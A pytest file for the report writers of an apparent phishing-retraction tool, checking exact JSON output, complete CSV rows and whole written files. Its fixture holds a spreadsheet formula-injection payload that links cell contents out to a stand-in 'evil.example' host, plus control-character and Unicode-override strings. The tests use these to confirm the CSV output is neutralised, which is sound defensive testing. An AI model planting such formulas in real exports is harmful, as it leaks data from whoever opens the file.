"""The files: exact for programs, harmless for spreadsheets, whole or absent."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from retract.model import State
from retract.reports.html import MAX_ROWS, headline
from retract.reports.json_text import json_text
from retract.reports.model import ReportSummary, RunReport
from retract.reports.write import COLUMNS, render_csv, summary_of, write_report
from retract.retraction.plan import SkipReason

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
HOSTILE = f'{FORMULA};@SUM(A1),"quoted"\r\nnew line \u202e and \x00'


@pytest.fixture
def hostile(
    planned: Any,
    skipped: Any,
    because: Any,
    overruled: Any,
    make_plan: Any,
    outcome: Any,
    report: Any,
) -> RunReport:
    reasons = (because(indicator=FORMULA, campaign=HOSTILE, source="-list"),)
    beaten = (overruled(indicator=FORMULA, rule="=rule", rule_reason=HOSTILE),)
    fields = {
        "subject": HOSTILE,
        "sender": FORMULA,
        "mailbox": FORMULA,
        "reasons": reasons,
        "overruled": beaten,
    }
    copies = [planned(number, **fields) for number in range(2)]
    outcomes = [outcome(copies[0]), outcome(copies[1], State.FAILED, reason=HOSTILE)]
    made: RunReport = report(make_plan(copies, [skipped(9, **fields)]), outcomes)
    return made


def test_json_is_exact(hostile: RunReport) -> None:
    text = json_text(hostile)
    assert text.isascii()
    assert RunReport.model_validate_json(text) == hostile
    assert json.loads(text)["copies"][0]["subject"] == HOSTILE
    assert json.loads(text)["format"] == 3


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_is_a_formula_however_the_spreadsheet_splits(
    hostile: RunReport, separator: str
) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(hostile)), delimiter=separator))
    cells = [cell for row in rows for cell in row]
    assert len(cells) > 10
    for cell in cells:
        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.isprintable()


def test_csv_has_every_copy_and_its_matches(hostile: RunReport) -> None:
    table = pd.read_csv(io.StringIO(render_csv(hostile)), keep_default_na=False)
    assert list(table.columns) == list(COLUMNS)
    assert list(table["result"]) == ["failed", "done", "left_alone"]
    assert list(table["note"][1:]) == ["", "already_done"]
    assert list(table["exposure"]) == ["read", "read", ""]
    assert table["place_now"][1] == "trash (Deleted Items)"
    assert table["indicators"][0] == "'" + FORMULA
    assert list(table["matches"]) == [1, 1, 1]


def test_csv_tells_what_was_overruled_by_which_rule_and_why(
    planned: Any, skipped: Any, overruled: Any, make_plan: Any, report: Any
) -> None:
    beaten = (overruled(), overruled(indicator="login.evil.example"))
    copies = [skipped(1, SkipReason.ALLOWED, reasons=(), overruled=beaten), skipped(2)]
    table = pd.read_csv(
        io.StringIO(render_csv(report(make_plan([planned(3, overruled=beaten)], copies)))),
        keep_default_na=False,
    )
    said = "https://login.evil.example/ | login.evil.example"
    assert list(table["overruled"]) == [said, said, ""]
    allowed = "https://login.evil.example/: our own training page"
    assert list(table["allowed_by"]) == [allowed, allowed, ""]
    assert list(table["note"][1:]) == ["allowed", "already_done"]
    assert list(table["matches"]) == [1, 0, 1]


def test_csv_has_what_the_page_leaves_out(planned: Any, make_plan: Any, report: Any) -> None:
    made = report(make_plan([planned(number) for number in range(MAX_ROWS + 20)]))
    assert len(pd.read_csv(io.StringIO(render_csv(made)))) == MAX_ROWS + 20


def test_the_files_are_written_whole(hostile: RunReport, tmp_path: Path) -> None:
    folder = tmp_path / "new" / "run"
    paths = write_report(hostile, folder)
    assert sorted(folder.iterdir()) == sorted([paths.html, paths.csv, paths.json, paths.summary])
    assert paths.csv.read_bytes().startswith(b"\xef\xbb\xbfreceived_at,")
    assert paths.html.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert write_report(hostile, folder) == paths


def test_the_summary_is_the_report_in_one_line(
    planned: Any, make_plan: Any, outcome: Any, report: Any
) -> None:
    copies = [planned(1), planned(2)]
    made = report(make_plan(copies), [outcome(one, State.DONE) for one in copies])
    assert summary_of(made) == ReportSummary(
        headline=headline(made), failed=False, preview=False, changed=2
    )
    failed = report(make_plan(copies), [outcome(one, State.FAILED) for one in copies])
    assert summary_of(failed).failed
    assert summary_of(failed).changed == 0
